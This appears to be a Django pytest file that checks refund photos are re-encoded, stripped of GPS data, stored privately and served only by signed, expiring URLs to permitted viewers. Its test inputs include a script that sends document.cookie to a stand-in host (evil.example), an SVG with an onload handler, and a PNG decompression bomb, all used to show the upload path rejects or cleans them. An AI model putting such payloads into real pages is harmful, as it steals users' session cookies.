"""After-sales photos are private: checked and re-encoded like avatars (config/images.py),
stored under random names outside the public media, and shown only to the shopper who sent
them and to staff allowed to view after-sales requests, by signed, expiring URLs."""

import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.models import Permission
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from PIL import ExifTags, Image
from rest_framework.test import APIClient

from config import private_media
from storefront.orders import after_sales
from storefront.orders.models import AfterSalesPhoto, AfterSalesRequest
from storefront.orders.status import change_order_status
from tests.conftest import client_for
from tests.factories import StaffFactory, buy, sku

pytestmark = pytest.mark.django_db

SCRIPT = b"<script>fetch('//evil.example/?c='+document.cookie)</script>"
STORED_NAME = re.compile(r"^after-sales/\d{4}/\d{2}/[0-9a-f]{32}\.jpg$")


@pytest.fixture(autouse=True)
def roots(settings, tmp_path):
    """Public media and private uploads in folders of their own, as in a deployment."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    settings.PRIVATE_MEDIA_ROOT = str(tmp_path / "private")
    return Path(settings.MEDIA_ROOT), Path(settings.PRIVATE_MEDIA_ROOT)


def files_under(root):
    return sorted(p.relative_to(root).as_posix() for p in Path(root).rglob("*") if p.is_file())


def gps_exif():
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCam"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (31.0, 14.0, 0.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (121.0, 28.0, 0.0)
    return exif


def phone_photo(name="IMG_0001 张三家门口.jpg", size=(1200, 900)):
    """A JPEG as a phone writes it, with its GPS position, and a script glued after it."""
    buffer = io.BytesIO()
    Image.new("RGB", size, (180, 40, 40)).save(buffer, "JPEG", exif=gps_exif())
    return SimpleUploadedFile(name, buffer.getvalue() + SCRIPT, content_type="image/jpeg")


def image_file(fmt, size=(40, 40), mode="RGB", name=None):
    buffer = io.BytesIO()
    Image.new(mode, size, 0 if mode in ("1", "P") else (200, 10, 10)).save(buffer, fmt)
    return SimpleUploadedFile(name or f"a.{fmt.lower()}", buffer.getvalue(), content_type=f"image/{fmt.lower()}")


def paid_order(member):
    order = buy(member, sku(price="30.00"), 1)
    change_order_status(order, "paid", actor="test:payment", reason="paid in the test")
    return order


def ask_with_photos(api, order, *photos):
    return api.post(
        f"/api/v1/orders/{order.number}/refund-request/",
        {"type": "refund_only", "reason": "罐子破了", "photos": list(photos)},
        format="multipart",
    )


def stored_bytes(photo):
    with photo.image.open("rb") as handle:
        return handle.read()


def path_of(url):
    parts = urlsplit(url)
    return parts.path + (f"?{parts.query}" if parts.query else "")


def staff_with(*codenames):
    user = StaffFactory()
    user.user_permissions.add(*Permission.objects.filter(content_type__app_label="storefront", codename__in=codenames))
    return type(user).objects.get(pk=user.pk)


@pytest.fixture
def sent(member, member_api):
    """A shopper has sent one phone photo with a refund request: (request, its photo, the URL the API gave)."""
    response = ask_with_photos(member_api, paid_order(member), phone_photo())
    assert response.status_code == 201, response.json()
    request = AfterSalesRequest.objects.get()
    [photo] = request.photos.all()
    [shown] = response.json()["photos"]
    assert shown["id"] == photo.pk
    return request, photo, shown["url"]


# --- one hardened path ----------------------------------------------------------------------------
def test_a_phone_photo_is_stored_re_encoded_without_gps_or_script_under_a_random_name(sent, roots):
    _, photo, _ = sent
    media_root, private_root = roots

    assert STORED_NAME.match(photo.image.name), photo.image.name
    assert "IMG_0001" not in photo.image.name and "张三" not in photo.image.name
    data = stored_bytes(photo)
    assert SCRIPT not in data and b"<script" not in data
    stored = Image.open(io.BytesIO(data))
    assert stored.format == "JPEG" and stored.size == (1200, 900)
    assert not stored.getexif() and not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert "exif" not in stored.info and "icc_profile" not in stored.info
    # In the private folder, and nothing at all in the public media.
    assert files_under(private_root) == [photo.image.name]
    assert files_under(media_root) == []


def test_a_photo_larger_than_the_kept_size_is_scaled_down(member, member_api, settings):
    settings.AFTER_SALES_PHOTO_SIZE = 800
    response = ask_with_photos(member_api, paid_order(member), phone_photo(size=(4000, 3000)))
    assert response.status_code == 201
    assert Image.open(io.BytesIO(stored_bytes(AfterSalesPhoto.objects.get()))).size == (800, 600)


def svg():
    body = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
    return SimpleUploadedFile("photo.svg", body, content_type="image/svg+xml")


def too_big(settings):
    settings.AFTER_SALES_PHOTO_MAX_BYTES = 1024 * 1024
    return SimpleUploadedFile("big.jpg", b"\xff\xd8\xff" + b"0" * (1024 * 1024), content_type="image/jpeg")


def png_bomb(settings, monkeypatch):
    bomb = image_file("PNG", size=(8000, 8000), mode="1", name="bomb.png")  # 64 megapixels, a few KB
    assert bomb.size < 100_000

    def no_decoding(self):
        raise AssertionError("the pixels were decoded")

    monkeypatch.setattr("PIL.ImageFile.ImageFile.load", no_decoding)
    return bomb


@pytest.mark.parametrize(
    "make, code",
    [
        (lambda settings, monkeypatch: image_file("GIF", mode="P", name="broken.jpg"), "invalid_image"),
        (lambda settings, monkeypatch: svg(), "invalid_image"),
        (lambda settings, monkeypatch: too_big(settings), "image_too_large"),
        (png_bomb, "image_too_large"),
    ],
    ids=["gif", "svg", "over-the-size-limit", "png-bomb"],
)
def test_what_is_not_a_safe_photo_is_refused_and_nothing_is_written(
    member, member_api, roots, settings, monkeypatch, make, code
):
    order = paid_order(member)
    refused = make(settings, monkeypatch)

    response = ask_with_photos(member_api, order, refused)

    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == code and "photos.0" in error["fields"]
    assert not AfterSalesRequest.objects.exists() and not AfterSalesPhoto.objects.exists()
    assert files_under(roots[0]) == [] and files_under(roots[1]) == []


def test_one_refused_photo_among_good_ones_leaves_nothing_behind(member, member_api, roots):
    order = paid_order(member)
    response = ask_with_photos(member_api, order, phone_photo(), image_file("GIF", mode="P"))
    assert response.status_code == 400 and response.json()["error"]["fields"] == {
        "photos.1": "not a JPEG, PNG or WebP image"
    }
    assert not AfterSalesRequest.objects.exists()
    assert files_under(roots[1]) == []


def test_a_request_that_fails_to_be_written_leaves_no_file(member, roots, monkeypatch):
    order = paid_order(member)

    def broken(*args, **kwargs):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(after_sales, "record_event", broken)
    with pytest.raises(RuntimeError):
        after_sales.request_refund(
            order=order, member=member, kind="refund_only", reason="破了", photos=[phone_photo()]
        )
    assert not AfterSalesPhoto.objects.exists()
    assert files_under(roots[1]) == []


# --- who sees the photo -----------------------------------------------------------------------------
def test_the_shopper_sees_the_photo_by_the_url_the_api_gave_without_any_header(sent, member_api):
    request, photo, url = sent
    assert url.startswith("http://testserver/private-media/") and url.endswith(Path(photo.image.name).name)

    # The mini program's <image src> sends no Authorization header.
    response = APIClient().get(path_of(url))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["Cache-Control"].startswith("private")
    assert b"".join(response.streaming_content) == stored_bytes(photo)
    # The order detail gives working URLs too.
    detail = member_api.get(f"/api/v1/orders/{request.order.number}/").json()
    [shown] = detail["after_sales"][0]["photos"]
    assert APIClient().get(path_of(shown["url"])).status_code == 200


def test_another_shopper_and_an_anonymous_caller_get_404(sent, other_member, other_api):
    request, photo, _ = sent
    anonymous = APIClient()
    # No way to the order, so none to its photos.
    assert other_api.get(f"/api/v1/orders/{request.order.number}/").status_code == 404
    # A URL that names no viewer is checked against whoever calls: neither may see it.
    unsigned_for_anyone = private_media.view_url(photo.image.name)
    assert other_api.get(unsigned_for_anyone).status_code == 404
    assert anonymous.get(unsigned_for_anyone).status_code == 404
    # Even a genuine URL signed for the other shopper is refused: the rule is checked on every fetch.
    signed_for_other = private_media.view_url(photo.image.name, viewer=other_member)
    response = other_api.get(signed_for_other)
    assert response.status_code == 404 and response.json()["error"]["code"] == "not_found"
    # Nothing is ever listed.
    for listing in ("/private-media/", "/private-media/after-sales/", f"/private-media/{photo.image.name}"):
        assert anonymous.get(listing).status_code == 404


def test_an_expired_or_tampered_url_gets_404(sent, monkeypatch, settings):
    _, photo, url = sent
    path = path_of(url)
    token, filename = path.removeprefix("/private-media/").split("/")
    anonymous = APIClient()
    assert anonymous.get(path).status_code == 200

    flipped = token[:-1] + ("A" if token[-1] != "A" else "B")
    assert anonymous.get(f"/private-media/{flipped}/{filename}").status_code == 404
    other_name = private_media.view_url("after-sales/2020/01/" + "0" * 32 + ".jpg").split("/")[2]
    assert anonymous.get(f"/private-media/{other_name}/{filename}").status_code == 404  # another file's token
    assert anonymous.get(f"/private-media/{token}/other.jpg").status_code == 404

    later = private_media._now() + settings.PRIVATE_MEDIA_URL_SECONDS + 61
    monkeypatch.setattr(private_media, "_now", lambda: later)
    assert anonymous.get(path).status_code == 404


def test_a_closed_account_loses_its_urls_at_once(sent, member):
    _, _, url = sent
    member.is_active = False
    member.save(update_fields=["is_active"])
    assert APIClient().get(path_of(url)).status_code == 404


def test_the_file_is_not_reachable_under_media_url(sent, settings):
    _, photo, _ = sent
    assert not storages["default"].exists(photo.image.name)
    assert APIClient().get(f"{settings.MEDIA_URL}{photo.image.name}").status_code == 404
    assert not Path(photo.image.path).resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())


# --- the admin ------------------------------------------------------------------------------------
def test_staff_allowed_to_view_requests_see_the_photo_in_the_admin(sent, client):
    request, photo, _ = sent
    client.force_login(staff_with("view_aftersalesrequest"))

    page = client.get(f"/admin/storefront/aftersalesrequest/{request.pk}/change/")

    assert page.status_code == 200
    [src] = re.findall(r'<img src="(/private-media/[^"]+)"', page.content.decode())
    thumbnail = client.get(src.replace("&amp;", "&"))
    assert thumbnail.status_code == 200
    assert b"".join(thumbnail.streaming_content) == stored_bytes(photo)


def test_staff_without_the_permission_do_not(sent, client):
    request, photo, _ = sent
    src = private_media.view_url(photo.image.name)  # what the admin page shows
    client.force_login(staff_with())

    assert client.get(f"/admin/storefront/aftersalesrequest/{request.pk}/change/").status_code == 403
    assert client.get(src).status_code == 404
    client.logout()
    assert client.get(src).status_code == 404


# --- photos sent while they were public ---------------------------------------------------------------
def test_photos_uploaded_while_public_are_moved_private_re_encoded_and_the_unsafe_removed(member, roots):
    order = paid_order(member)
    request = after_sales.request_refund(order=order, member=member, kind="refund_only", reason="破了")
    public = storages["default"]
    old_jpeg = public.save("after-sales/2025/01/IMG_0001.jpg", phone_photo())
    old_gif = public.save("after-sales/2025/01/funny.gif", image_file("GIF", mode="P"))
    moving = AfterSalesPhoto.objects.create(request=request, image=old_jpeg)
    unsafe = AfterSalesPhoto.objects.create(request=request, image=old_gif)
    assert files_under(roots[0]) == ["after-sales/2025/01/IMG_0001.jpg", "after-sales/2025/01/funny.gif"]

    out = io.StringIO()
    call_command("make_after_sales_photos_private", stdout=out)

    assert "moved: 1" in out.getvalue() and "refused: 1" in out.getvalue()
    assert files_under(roots[0]) == []  # nothing public is left
    moving.refresh_from_db()
    assert STORED_NAME.match(moving.image.name)
    data = stored_bytes(moving)
    assert SCRIPT not in data and not Image.open(io.BytesIO(data)).getexif()
    assert not AfterSalesPhoto.objects.filter(pk=unsafe.pk).exists()
    # The shopper sees the moved photo by the URL the API gives.
    client = client_for(member)
    [shown] = client.get(f"/api/v1/orders/{order.number}/").json()["after_sales"][0]["photos"]
    assert APIClient().get(path_of(shown["url"])).status_code == 200

    again = io.StringIO()
    call_command("make_after_sales_photos_private", stdout=again)
    assert "moved: 0" in again.getvalue() and "already_private: 1" in again.getvalue()
    assert files_under(roots[1]) == [moving.image.name]


# --- object storage ---------------------------------------------------------------------------------
def settings_with(**environ):
    """The kit's settings as a deployment with these environment variables loads them."""
    code = "import json, config.settings as s; print(json.dumps(s.STORAGES['private']))"
    env = {**os.environ, "DEBUG": "true", **environ}
    env.pop("DJANGO_SETTINGS_MODULE", None)
    done = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True)
    return json.loads(done.stdout)


S3 = {"STORAGE_BACKEND": "storages.backends.s3.S3Storage", "AWS_STORAGE_BUCKET_NAME": "shop-media"}


def test_on_object_storage_photos_go_to_the_buckets_private_prefix_with_signed_urls():
    private = settings_with(**S3)

    assert private["BACKEND"] == "storages.backends.s3.S3Storage"
    assert private["OPTIONS"] == {
        "bucket_name": "shop-media",
        "location": "private",
        "default_acl": "private",
        "querystring_auth": True,
        "querystring_expire": 900,
        "custom_domain": None,
        "file_overwrite": False,
    }
    assert settings_with(**S3, PRIVATE_MEDIA_BUCKET="shop-private")["OPTIONS"]["bucket_name"] == "shop-private"
    assert settings_with()["BACKEND"] == "config.private_media.PrivateFileSystemStorage"


def test_on_object_storage_the_api_gives_a_presigned_expiring_url(sent, settings):
    """The storage built from those settings answers a presigned URL for the API; signing
    happens offline, no request reaches any bucket."""
    pytest.importorskip("boto3")
    from storages.backends.s3 import S3Storage

    _, photo, _ = sent
    settings.AWS_ACCESS_KEY_ID, settings.AWS_SECRET_ACCESS_KEY = "AKIDEXAMPLE", "example-secret"
    options = settings_with(**S3)["OPTIONS"]
    photo.image.storage = S3Storage(**options, region_name="cn-north-1")

    url = private_media.url_for(photo.image, photo.request.member)

    assert url.startswith("https://") and f"/private/{photo.image.name}?" in url
    assert "X-Amz-Signature=" in url and "X-Amz-Expires=900" in url
